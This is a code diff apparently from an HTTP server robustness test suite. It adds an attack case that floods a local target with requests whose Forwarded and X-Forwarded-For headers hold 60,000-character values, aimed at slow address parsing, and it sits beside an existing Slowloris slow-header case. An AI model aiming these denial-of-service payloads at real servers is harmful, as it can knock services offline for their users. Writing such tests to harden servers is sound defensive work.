@@ -148,6 +148,23 @@ export const http1: AttackGroup = {
       },
     },
     {
+      name: "forwarded-addresses",
+      title:
+        "Addresses of 60 KiB that are none, where a proxy is trusted: a pattern that goes back and forth took years",
+      server: "forwarded",
+      run: async (target) => {
+        const text = ":".repeat(60_000);
+        const fields = ["forwarded: for=", 'forwarded: for="[', "x-forwarded-for: ", "x-forwarded-proto: "];
+        let index = 0;
+        await atRate(target, 50, () => {
+          const name = fields[index++ % fields.length]!;
+          ask(target, `GET /x HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n${name}${text}x\r\n\r\n`).catch(
+            () => {},
+          );
+        });
+      },
+    },
+    {
       name: "slow-heads",
       title: "300 heads that come by the byte (Slowloris)",
       run: (target) => slowly(target, 300, "GET / HTTP/1.1\r\nhost: localhost\r\nx-slow: ", "y"),
